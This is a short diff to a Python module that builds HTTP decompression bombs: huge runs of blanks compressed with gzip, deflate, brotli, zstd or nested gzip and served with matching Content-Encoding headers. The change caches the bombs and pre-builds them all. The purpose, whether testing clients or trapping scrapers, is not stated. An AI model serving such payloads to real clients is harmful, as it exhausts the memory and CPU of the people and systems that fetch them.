@@ -50,6 +50,7 @@ def bomb(encoding: str) -> bytes:
     return answer(packed_blanks(encoding), Content_Encoding=encoding)
 
 
+@cache
 def packed_blanks(encoding: str = "gzip") -> bytes:
     """The bomb itself."""
     return b"".join(_packed(encoding, repeat(b" " * 2**20, BOMB_BYTES >> 20)))
@@ -62,6 +63,14 @@ def nested_bomb(layers: int) -> bytes:
     for _ in range(layers - 1):
         body = gzip.compress(body)
     return answer(body, Content_Encoding=", ".join(["gzip"] * layers))
+
+
+def pack_bombs() -> None:
+    """Make every bomb now, so that the server is not busy with that while others wait."""
+    for encoding in ("gzip", "deflate", "br", "zstd"):
+        bomb(encoding)
+    nested_bomb(2)
+    nested_bomb(10)
 
 
 def _packed(encoding: str, pieces: Iterable[bytes]) -> Iterator[bytes]:
